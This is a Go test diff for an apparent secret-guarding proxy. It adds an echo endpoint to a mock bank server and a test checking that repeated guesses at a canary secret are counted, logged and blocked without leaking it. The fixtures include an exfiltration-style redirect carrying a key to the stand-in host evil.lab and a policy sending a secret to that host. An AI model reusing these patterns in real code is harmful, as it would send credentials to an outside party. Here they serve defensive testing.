@@ -79,6 +79,8 @@ func (b *bank) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	case "/away":
 		w.Header().Set("Location", "https://evil.lab/take?k="+key)
 		w.WriteHeader(http.StatusTemporaryRedirect)
+	case "/v1/mirror":
+		w.Write(body)
 	default:
 		io.WriteString(w, "ok")
 	}
@@ -350,6 +352,73 @@ func TestSecretChanges(t *testing.T) {
 	l.mu.Unlock()
 	if _, _, n := ask(); n != 0 {
 		t.Error("a use that could not be recorded")
+	}
+}
+
+// A server that says what it is told can be used to guess a value, since what may be its beginning is held back. Guesses are counted.
+func TestSecretIsNotGuessed(t *testing.T) {
+	l, good, _, _ := bankLab(t)
+	sealed := []Secret{l.secret("bank-key", canary, holder), l.secret("other-key", canary2, holder2)}
+	in := l.sandbox("guesser", granted, sealed...)
+	mirror := func(text string) (int, string) {
+		t.Helper()
+		res, err := in.do(t, "POST", "https://bank.lab/v1/mirror", text)
+		if err != nil {
+			return 0, err.Error()
+		}
+		defer res.Body.Close()
+		back, err := io.ReadAll(res.Body)
+		if err != nil {
+			return 0, err.Error()
+		}
+		return res.StatusCode, string(back)
+	}
+	half := canary[:(len(canary)+1)/2]
+	for range 3 * maxHalves {
+		if status, back := mirror(half[:len(half)-1] + "?"); status != 200 || back != half[:len(half)-1]+"?" {
+			t.Fatalf("less than half: %d %q", status, back)
+		}
+	}
+	for n := range maxHalves - 1 {
+		if status, back := mirror(fmt.Sprint(half, "?", n)); status != 200 || back != fmt.Sprint(half, "?", n) {
+			t.Fatalf("guess %d: %d %q", n, status, back)
+		}
+	}
+	if l.has("secret.guess", "") {
+		t.Fatal("it is on record too early")
+	}
+	if status, back := mirror(half + "?"); strings.Contains(back, half) {
+		t.Fatalf("the last guess: %d %q", status, back)
+	}
+	if !l.has("secret.guess", "bank.lab") {
+		t.Error("the guesses are not on record")
+	}
+	good.last()
+	// With another policy too, and for other requests to the host.
+	for range 2 {
+		for _, path := range []string{"/v1/x", "/basic/x"} {
+			res, err := in.do(t, "GET", "https://bank.lab"+path, "")
+			if err != nil {
+				t.Fatal(err)
+			}
+			if text := whole(t, res); res.StatusCode != http.StatusBadGateway || !strings.Contains(text, "as if someone guessed") || strings.Contains(text, canary) {
+				t.Errorf("%s after the guesses: %s", path, text)
+			}
+		}
+		if err := l.g.SetPolicy("guesser", Rules{Policy: l.policy(granted + "  - {secret: other-key, name: more, host: evil.lab, place: {query: k}}\n"), Secrets: sealed}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if _, _, n := good.last(); n != 0 {
+		t.Errorf("%d requests have arrived after the guesses", n)
+	}
+	const next = "the-next-canary-55bb"
+	// A value that nobody has guessed at is another matter; a server may still tell of the one before.
+	if err := l.g.SetPolicy("guesser", Rules{Policy: l.policy(granted), Secrets: []Secret{l.secret("bank-key", next, holder)}}); err != nil {
+		t.Fatal(err)
+	}
+	if status, back := mirror("was " + canary + ", is " + next); status != 200 || back != "was "+holder+", is "+holder {
+		t.Errorf("after a change: %d %q", status, back)
 	}
 }
 
